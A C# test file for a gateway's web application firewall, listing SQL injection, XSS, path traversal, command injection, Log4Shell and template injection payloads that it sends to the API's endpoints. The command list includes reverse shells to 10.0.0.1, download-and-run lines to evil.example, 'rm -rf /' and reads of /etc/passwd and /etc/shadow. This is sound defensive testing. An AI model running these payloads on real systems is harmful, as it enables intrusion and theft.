namespace Meridian.Gateway.Tests.Waf.Corpus;

/// <summary>
/// Attacks from the well-known payload families, written for these tests: each payload is sent in a query
/// parameter, in a JSON body and (when it fits in a header) in a header, the places real scanners put them.
/// </summary>
public static class AttackCorpus
{
    public static readonly string[] Sqli =
    [
        "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "' or 'a'='a", "') OR ('1'='1", "1' OR '1'='1' --", "admin'--", "admin' #",
        "admin'/*", "' OR 1=1#", "1 OR 1=1", "1' AND 1=1 --", "' or true--", "\" or true--", "') or true--", "1) or (1=1",
        "' UNION SELECT NULL--", "' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT 1,2,3--", "-1 union select @@version",
        "1 UNION/**/SELECT/**/password/**/FROM/**/users", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "' UNION(SELECT(1),(2))--",
        "1; DROP TABLE users--", "'; DROP TABLE features; --", "1; SELECT pg_sleep(10)--", "'; EXEC xp_cmdshell('dir')--",
        "'; WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)", "1' AND SLEEP(5) AND '1'='1", "' OR BENCHMARK(10000000,MD5(1))#",
        "1) AND pg_sleep(5)--", "' AND 1=(SELECT COUNT(*) FROM tabname); --", "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
        "1 AND (SELECT * FROM users) = 1", "' AND EXISTS(SELECT * FROM users)--", "1' ORDER BY 1--", "1' ORDER BY 10#", "1 GROUP BY 1,2--",
        "' HAVING 1=1--", "' AND extractvalue(1,concat(0x7e,version()))--", "' AND updatexml(1,concat(0x7e,user()),1)--",
        "1 AND 1=CONVERT(int,@@version)", "' UNION SELECT table_name FROM information_schema.tables--",
        "' UNION SELECT name FROM sqlite_master--", "' UNION SELECT usename, passwd FROM pg_shadow--", "1; COPY (SELECT '') TO PROGRAM 'id'",
        "' AND load_file('/etc/passwd')--", "' INTO OUTFILE '/var/www/shell.php'--", "1 AND ascii(substring((select database()),1,1))>64",
        "' OR char(65)||char(66)='AB", "' OR CHAR(83,81,76)='SQL'--", "1 or 0x50=0x50", "' or ''='", "'='", "' OR 'x'='x",
        "1' and '1'='1", "' AND 'a'='a", "\"; DROP TABLE users; --", "1;exec master..xp_cmdshell 'ping 127.0.0.1'--",
        "' or 1=1 limit 1 -- -+", "admin' or '1'='1'--", "' || '1'='1", "1 || 1=1", "' OR username IS NOT NULL OR username = '",
        "1' AND (SELECT 2 FROM dual)=2--", "' AND 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
        "'; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--", "1 AND GROUP_CONCAT(table_name)", "name_const(version(),1)",
        "%27%20OR%201%3D1--", "%2527%2520OR%25201%253D1--", "1%27%20UNION%20SELECT%201--",
    ];

    public static readonly string[] Xss =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>document.location='//evil/'+document.cookie</script>",
        "\"><script>alert(document.domain)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert('xss')\">", "<IMG SRC=javascript:alert('XSS')>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert('xss')>", "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(document.cookie)",
        "jav&#x09;ascript:alert(1)", "<object data=\"javascript:alert(1)\">", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "data:text/html,<script>alert(1)</script>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\">", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<math><mtext><script>alert(1)</script>",
        "<div style=\"width:expression(alert(1))\">", "<style>@import'javascript:alert(1)';</style>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
        "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"", "';alert(String.fromCharCode(88,83,83))//",
        "'-alert(1)-'", "\";alert(1);//", "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<form action=javascript:alert(1)><input type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
        "<xss onpointerover=alert(1)>hover</xss>", "<template><img src=x onerror=alert(1)></template>", "vbscript:msgbox(1)",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>", "prompt(document.cookie)", "confirm`1`", "window.location='http://evil.example'",
        "<svg><script xlink:href=data:,alert(1)></script>", "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
    ];

    public static readonly string[] Traversal =
    [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "/etc/passwd",
        "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "c:\\windows\\system32\\drivers\\etc\\hosts", "C:/boot.ini",
        "../WEB-INF/web.xml", "..;/WEB-INF/web.xml", "/var/www/../../etc/passwd", "file:///etc/passwd", "file://c:/windows/win.ini",
        "php://filter/convert.base64-encode/resource=index.php", "php://input", "expect://id", "phar://uploads/evil.jpg",
        "zip://shell.jpg%23payload.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=", "/etc/passwd%00.png",
        "../../../../etc/passwd%00", "../.env", "/.git/config", "../../.ssh/id_rsa", "..\\..\\..\\..\\boot.ini", "/..\\..\\..\\etc\\passwd",
        "gopher://127.0.0.1:6379/_SET%20x", "dict://127.0.0.1:11211/stats", "....\\\\....\\\\windows\\\\win.ini", "../../../../../../../../../../etc/hosts",
        "/static/../../../../etc/passwd", "..%5c..%5c..%5cwindows%5cwin.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", ".htaccess", "/.htpasswd",
    ];

    public static readonly string[] Command =
    [
        "; ls -la", "| cat /etc/passwd", "`id`", "$(whoami)", "&& wget http://evil.example/x.sh", "; curl http://evil.example | sh",
        "| nc -e /bin/sh 10.0.0.1 4444", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "127.0.0.1; cat /etc/passwd", "127.0.0.1 && whoami",
        "127.0.0.1 | id", "; sleep 10", "|| ping -c 10 127.0.0.1", "$(sleep 5)", "`sleep 5`", ";cat${IFS}/etc/passwd", "cat$IFS/etc/passwd",
        "; python -c 'import os; os.system(\"id\")'", "; perl -e 'exec \"/bin/sh\"'", "& powershell -enc SQBFAFgA", "| cmd.exe /c dir",
        "& cmd /c whoami", "; rm -rf /", "x; echo vulnerable", "$(curl evil.example)", "; /usr/bin/id", "|/bin/bash -c 'id'", ";uname -a",
        "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo vulnerable", "{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "; certutil -urlcache -f http://evil.example/x.exe x.exe", "| whoami", "; nslookup evil.example",
        "a;wget${IFS}http://evil.example", "&& tasklist", "; ncat 10.0.0.1 4444 -e /bin/bash",
    ];

    /// <summary>Protocol anomalies: method, headers and framing that no client of ours sends.</summary>
    public static IEnumerable<WafCase> Protocol()
    {
        const string path = "/collections/countries/items";
        yield return new("protocol", "TRACE", path, WafCase.NoHeaders);
        yield return new("protocol", "TRACK", path, WafCase.NoHeaders);
        yield return new("protocol", "CONNECT", path, WafCase.NoHeaders);
        yield return new("protocol", "PROPFIND", path, WafCase.NoHeaders);
        yield return new("protocol", "DEBUG", path, WafCase.NoHeaders);
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "chunked", ["Content-Length"] = "4" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "chunked, identity" });
        yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "xchunked" });
        yield return new("protocol", "GET", path, new Dictionary<string, string> { ["X-Api-Note"] = new string('a', 9000) });
        yield return new("protocol", "GET", path + "?f=json%0d%0aSet-Cookie:%20session=evil", WafCase.NoHeaders);
        yield return new("protocol", "GET", path + "?next=%0aLocation:%20http://evil.example", WafCase.NoHeaders);
        yield return new("protocol", "GET", "/collections/../../etc/passwd", WafCase.NoHeaders);
        yield return new("protocol", "GET", "/collections/%2e%2e/%2e%2e/etc/passwd", WafCase.NoHeaders);
        yield return new("protocol", "GET", "/collections/..%2f..%2fadmin", WafCase.NoHeaders);
        var many = Enumerable.Range(0, 120).ToDictionary(i => $"X-H{i}", i => "v");
        yield return new("protocol", "GET", path, many);
    }

    public static IEnumerable<WafCase> All()
    {
        foreach (var (family, payloads) in new[] { ("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command) })
        {
            foreach (var payload in payloads)
            {
                // Payloads written percent-encoded go on the wire as they are; others are encoded as a client would.
                var encoded = payload.Contains('%') ? payload : Uri.EscapeDataString(payload);
                yield return new(family, "GET", "/collections/countries/items?name=" + encoded, WafCase.NoHeaders);
                yield return new(family, "GET", "/collections/countries/items?filter=" + encoded + "&filter-lang=cql2-text", WafCase.NoHeaders);
                yield return new(family, "POST", "/collections/countries/items", WafCase.NoHeaders,
                    $$$"""{"type":"Feature","properties":{"name":{{{System.Text.Json.JsonSerializer.Serialize(payload)}}}},"geometry":{"type":"Point","coordinates":[1,2]}}""",
                    "application/geo+json");
                if (payload.All(c => c is >= ' ' and <= '~'))
                {
                    yield return new(family, "GET", "/collections", new Dictionary<string, string> { ["User-Agent"] = payload });
                }
                if (family == "traversal")
                {
                    yield return new(family, "GET", "/collections/" + encoded.Replace("%2F", "/", StringComparison.OrdinalIgnoreCase) + "/items", WafCase.NoHeaders);
                }
            }
        }
        foreach (var anomaly in Protocol()) yield return anomaly;
    }
}
